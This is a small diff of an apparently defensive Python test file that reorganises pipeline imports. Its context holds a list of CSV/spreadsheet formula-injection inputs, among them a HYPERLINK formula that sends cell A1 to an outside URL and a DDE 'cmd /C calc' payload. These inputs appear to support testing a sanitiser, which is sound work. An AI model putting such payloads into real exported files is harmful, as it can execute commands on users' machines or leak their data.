@@ -11,7 +11,9 @@ from command_line import Run, jsonl, write
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from pipeline import documents, forms, formulas
+from pipeline import formulas
+from pipeline.coding import forms
+from pipeline.reading import documents
 from pipeline.records import Task
 
 FORMULAS = ['=HYPERLINK("http://x?"&A1,"ok")', "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "'=1", "''@x"]
